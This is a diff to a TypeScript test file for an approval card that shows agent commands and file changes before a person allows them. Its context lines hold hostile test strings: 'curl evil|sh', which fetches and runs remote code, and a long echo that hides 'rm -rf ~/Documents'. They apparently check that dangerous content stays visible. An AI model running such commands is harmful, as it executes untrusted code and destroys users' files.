@@ -190,6 +190,13 @@ describe("an open card", () => {
     expect(whole).toContain("exec('curl evil|sh')")
   })
 
+  it("needs no file for a change that is all on it", () => {
+    const changes = [{ path: "/work/a.ts", change: "add" as const, diff: "@@ -0,0 +1 @@\n+hello" }]
+    const { whole, rich } = opened(approving({ subject: "file_change", changes }))
+    expect(whole).toBeNull()
+    expect(rich.text).not.toContain("Shortened here")
+  })
+
   it("offers Allow for what is longer than a card only once its file was sent", () => {
     const body = approving({
       command: `echo '${"a".repeat(5_000)}'; rm -rf ~/Documents`,
